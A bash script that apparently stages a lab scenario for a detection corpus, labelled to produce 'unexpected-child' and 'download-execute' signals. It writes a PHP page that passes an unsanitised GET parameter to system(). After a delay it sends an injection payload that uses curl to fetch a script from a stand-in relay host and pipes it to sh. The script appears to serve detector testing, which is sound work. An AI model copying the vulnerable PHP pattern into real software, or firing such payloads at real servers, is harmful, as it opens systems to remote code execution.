#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=unexpected-child,download-execute half=report tool=php,curl,dash far=desk,out seconds=720 parts=dns,outside-web recorder=/usr/bin/php8.2 ticks=1000ms
# Eleven minutes after its start a name in a question makes the recorder's web service, in PHP, run a shell that gives another one what curl fetches outside.
if [ "$1" = out ]; then mkdir -p "$LAB/outside/drop"; printf 'id >%s/ran\nsleep 3\n' "$LAB" >"$LAB/outside/drop/setup"; exit 0; fi
if [ "$1" = desk ]; then
	for pause in 20 200 200; do sleep $pause; curl -s --max-time 5 'http://10.30.0.2:8000/?name=gate' >/dev/null; done
	sleep 260; curl -s --max-time 10 'http://10.30.0.2:8000/?name=x%3Bcurl%20-s%20http://relay.example.net/drop/setup%7Csh' >/dev/null; exit 0
fi
# A page as recorders have them: a name is looked for among its own, and given to a program when it is not.
# shellcheck disable=SC2016 # PHP has its own variables
echo '<?php if ($_GET["name"] === "gate") echo "ok"; else system("echo " . $_GET["name"]);' >"$LAB/page.php"
timeout 715 php -S 10.30.0.2:8000 "$LAB/page.php" >/dev/null 2>&1
grep -q uid=0 "$LAB/ran"
